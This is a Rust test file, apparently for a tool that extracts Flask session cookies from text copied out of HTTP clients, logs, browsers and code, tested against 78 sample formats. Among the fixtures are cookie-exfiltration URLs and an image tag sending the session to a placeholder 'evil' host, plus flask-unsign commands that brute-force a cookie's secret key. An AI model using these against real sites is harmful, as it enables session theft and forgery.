//! Output of tools that people copy; `@` stands for a cookie.

use flask_session_demo::anatomy::paste::find_all;

use super::{A, is_found, judge};

/// A compressed cookie, which begins with a dot.
const COMPRESSED: &str = ".eJyrVkpUslKqQAJKtQBLeQe8.ZVPxAA.EOs6yBwsoqGkcdpDgT-Ylgh0SBs";

/// The tools, and what they write.
const TOOLS: [(&str, &str); 78] = [
    (
        "a session of HTTPie 2",
        "{\"cookies\": {\"session\": {\"expires\": null, \"path\": \"/\", \"secure\": false, \"value\": \"@\"}}, \"headers\": {}}",
    ),
    (
        "a session of HTTPie 3",
        "{\"cookies\": [{\"domain\": \"\", \"expires\": null, \"name\": \"session\", \"path\": \"/\", \"value\": \"@\"}]}",
    ),
    (
        "Postman's collection",
        "{\"header\":[{\"key\":\"Cookie\",\"value\":\"csrf=1; session=@\",\"type\":\"text\"}]}",
    ),
    (
        "Postman's cookie",
        "{\"key\":\"session\",\"value\":\"@\",\"domain\":\"x\"}",
    ),
    (
        "Insomnia's export",
        "{\"headers\":[{\"name\":\"Cookie\",\"value\":\"session=@\",\"id\":\"pair_1\"}]}",
    ),
    (
        "Insomnia's jar",
        "{\"cookieJar\":{\"cookies\":[{\"key\":\"session\",\"value\":\"@\",\"domain\":\"localhost\",\"path\":\"/\"}]}}",
    ),
    (
        "SimpleCookie of Python",
        "<SimpleCookie: <Morsel: session=@; HttpOnly; Path=/>>",
    ),
    ("its output", "Set-Cookie: session=\"@\"; HttpOnly; Path=/"),
    (
        "« Copy as curl command » of Burp",
        "curl -i -s -k -X $'GET' \\\n    -H $'Host: 127.0.0.1:5000' -H $'User-Agent: M' \\\n    -b $'session=@' \\\n    $'http://127.0.0.1:5000/'",
    ),
    ("Wireshark", "    Cookie: session=@\\r\\n"),
    (
        "tcpdump -A",
        "E..4..7.7.....GET / HTTP/1.1..Host: x..Cookie: session=@..",
    ),
    (
        "strace",
        "write(3, \"GET / HTTP/1.1\\r\\nHost: x\\r\\nCookie: session=@\\r\\n\\r\\n\", 120) = 120",
    ),
    (
        "a log of nginx",
        "127.0.0.1 - - [25/Nov/2026:08:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0 (X11)\" \"session=@\"",
    ),
    (
        "a log in JSON",
        "{\"ts\":\"2026-11-25T08:00:00Z\",\"level\":\"info\",\"cookie\":\"session=@\",\"path\":\"/a.b.c\"}",
    ),
    (
        "an environment of WSGI",
        "'HTTP_COOKIE': 'csrf=1; session=@',",
    ),
    (
        "Flask's request.cookies",
        "ImmutableMultiDict([('csrf', 'x'), ('session', '@')])",
    ),
    (
        "Werkzeug's headers",
        "EnvironHeaders([('Host', 'x'), ('Cookie', 'session=@')])",
    ),
    ("a Hash of Ruby", "{\"csrf\"=>\"x\", \"session\"=>\"@\"}"),
    ("a Map of Java", "{session=@, path=/}"),
    ("a List of Java", "[csrf=x, session=@]"),
    (
        "Node's headers",
        "  'set-cookie': [ 'session=@; HttpOnly; Path=/' ],",
    ),
    (
        "a table of HTML",
        "<tr><td>session</td><td>@</td><td>127.0.0.1</td></tr>",
    ),
    ("CSV", "session,@,127.0.0.1,/,Session"),
    ("CSV in quotes", "\"session\",\"@\",\"127.0.0.1\""),
    ("YAML, a list", "- name: session\n  value: @\n  path: /"),
    ("YAML, a map", "cookies:\n  csrf: x\n  session: @"),
    ("a property list", "<key>session</key>\n<string>@</string>"),
    (
        "a row of sqlite3",
        "1||session|@|127.0.0.1|/|1796600000|0|1",
    ),
    ("a mail, quoted-printable", "Cookie: session=3D@; lang=3Dfr"),
    (
        "an answer to a mail",
        "> Cookie: session=@\n> what is this?",
    ),
    ("a table of Markdown", "| session | `@` | 127.0.0.1 |"),
    ("code in a chat", "`session=@`"),
    (
        "an address",
        "http://127.0.0.1:5000/inspecteur?session=@#top",
    ),
    (
        "an address in an address",
        "http://evil/?c=session%3D@%3B%20lang%3Dfr",
    ),
    (
        "a sentence",
        "The cookie is @ and it expires tomorrow. See www.example.org.",
    ),
    ("une phrase", "Voici mon cookie : « session=@ ». Pourquoi ?"),
    ("une parenthèse", "mon cookie (session=@), merci"),
    ("a colon with blanks", "session : @"),
    ("an arrow", "session → @"),
    ("an arrow of ASCII", "session -> @"),
    (
        "PowerShell, field by field",
        "$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\n$cookie = New-Object System.Net.Cookie\n$cookie.Name = \"session\"\n$cookie.Value = \"@\"\n$cookie.Domain = \"localhost\"",
    ),
    (
        "PowerShell's headers",
        "Invoke-WebRequest -Uri http://x -Headers $h{\"Cookie\"=\"session=@\"}",
    ),
    (
        "JMeter",
        "<elementProp name=\"session\" elementType=\"Cookie\"><stringProp name=\"Cookie.value\">@</stringProp></elementProp>",
    ),
    (
        "XML",
        "<cookie><name>session</name><value>@</value></cookie>",
    ),
    (
        "Go's source",
        "[]*http.Cookie{&http.Cookie{Name:\"session\", Value:\"@\", Path:\"/\"}}",
    ),
    ("Go's output", "[session=@; Path=/; HttpOnly]"),
    (
        "PHP's var_dump",
        "array(1) { [\"session\"]=> string(59) \"@\" }",
    ),
    ("PHP's var_export", "'session' => '@',"),
    ("C#", "new Cookie(\"session\", \"@\") { Domain = \"x\" }"),
    ("Locust", "self.client.cookies.set(\"session\", \"@\")"),
    ("js-cookie", "Cookies.set('session', '@', { path: '/' })"),
    ("a header of Firefox, below its name", "Cookie\nsession=@"),
    (
        "headers of Chromium, below their names",
        "cookie:\nsession=@; lang=fr\nuser-agent:\nMozilla/5.0 (X11; Linux x86_64)",
    ),
    (
        "raw headers of Firefox",
        "GET / HTTP/1.1\nHost: 127.0.0.1:5000\nUser-Agent: Mozilla/5.0\nCookie: session=@\nUpgrade-Insecure-Requests: 1",
    ),
    (
        "Firefox's « Copy All », request",
        "{\"Request Cookies\":{\"session\":\"@\"}}",
    ),
    (
        "Firefox's « Copy All », response",
        "{\"Response Cookies\":{\"session\":{\"httpOnly\":true,\"path\":\"/\",\"value\":\"@\"}}}",
    ),
    (
        "a row of Safari",
        "session\t@\t127.0.0.1\t/\tSession\t66 B\t✓",
    ),
    ("a variable of a shell", "export COOKIE='session=@'"),
    ("an assignment", "cookie = \"@\""),
    ("a variable", "SESSION=\"@\""),
    ("flask-unsign, decode", "flask-unsign --decode --cookie '@'"),
    (
        "flask-unsign, unsign",
        "flask-unsign --unsign --cookie \"@\" --wordlist words.txt",
    ),
    (
        "flask-session-cookie-manager",
        "python3 flask_session_cookie_manager3.py decode -c '@' -s 'k1'",
    ),
    (
        "Werkzeug's Cookie",
        "<Cookie session='@'; HttpOnly; Path=/>",
    ),
    (
        "Werkzeug's jar",
        "{('localhost', '/', 'session'): <Cookie 'session=@; Domain=localhost; Path=/'>}",
    ),
    ("without a blank", "Cookie:session=@"),
    ("without a name", "Cookie: @"),
    (
        "attributes on lines of their own",
        "Set-Cookie: session=@;\n HttpOnly;\n Path=/",
    ),
    (
        "folded by a comma",
        "Set-Cookie: session=@; Expires=Thu, 26-Nov-2026 08:00:00 GMT, other=1; Path=/",
    ),
    (
        "curl with double quotes",
        "curl \"http://127.0.0.1:5000/\" -H \"Cookie: session=@\"",
    ),
    (
        "curl of cmd.exe with a quote in another cookie",
        "curl ^\"http://127.0.0.1:5000/^\" ^\n  -H ^\"Cookie: a=^\\^\"x^\\^\"; session=@^\"",
    ),
    (
        "an address in a page",
        "<img src=\"http://evil/?session=@\">",
    ),
    ("entities", "&lt;session=@&gt;"),
    ("backslashes", "session=\\\"@\\\""),
    (
        "JSON in JSON",
        "{\\\"a\\\":\\\"{\\\\\\\"session\\\\\\\":\\\\\\\"@\\\\\\\"}\\\"}",
    ),
    ("an ellipsis", "session=@…"),
    ("brackets", "[@]"),
    ("a joiner of no width in the name", "s\u{200b}ession=@"),
];

#[test]
fn the_cookie_is_found_in_what_each_tool_writes() {
    for (tool, text) in TOOLS {
        for cookie in [A, COMPRESSED] {
            let text = text.replace('@', cookie);
            let found = find_all(&text, "session");
            let found = found.map(|it| it.into_iter().map(|it| it.value).collect::<Vec<_>>());
            assert_eq!(found, Ok(vec![cookie.to_owned()]), "{tool}: {text}");
        }
    }
}

#[test]
fn it_is_found_on_standard_input_as_well() {
    for (_, text) in TOOLS {
        is_found(judge().stdin(text.replace('@', A)).run());
    }
}
